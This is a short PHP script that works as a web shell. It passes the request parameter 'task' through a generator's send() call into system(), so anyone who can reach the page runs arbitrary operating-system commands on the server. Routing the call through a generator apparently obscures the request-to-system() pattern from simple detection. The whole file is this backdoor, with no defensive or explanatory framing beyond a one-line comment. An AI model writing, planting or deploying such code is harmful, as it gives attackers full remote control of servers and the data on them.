<?php
// A generator paused at `yield` gets the request's value through send() and runs it.
function worker()
{
    for (;;) {
        $task = yield;
        system($task);
    }
}

$w = worker();
$w->current();
$w->send($_REQUEST['task']);
